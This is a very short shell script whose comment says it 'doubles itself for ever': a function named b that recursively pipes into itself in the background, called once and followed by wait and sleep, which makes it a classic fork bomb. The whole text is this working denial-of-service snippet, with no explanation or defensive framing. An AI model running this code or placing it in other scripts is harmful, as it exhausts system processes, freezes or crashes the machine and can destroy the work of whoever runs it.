# Doubles itself for ever.
b() { b | b & }
b
wait
sleep 30
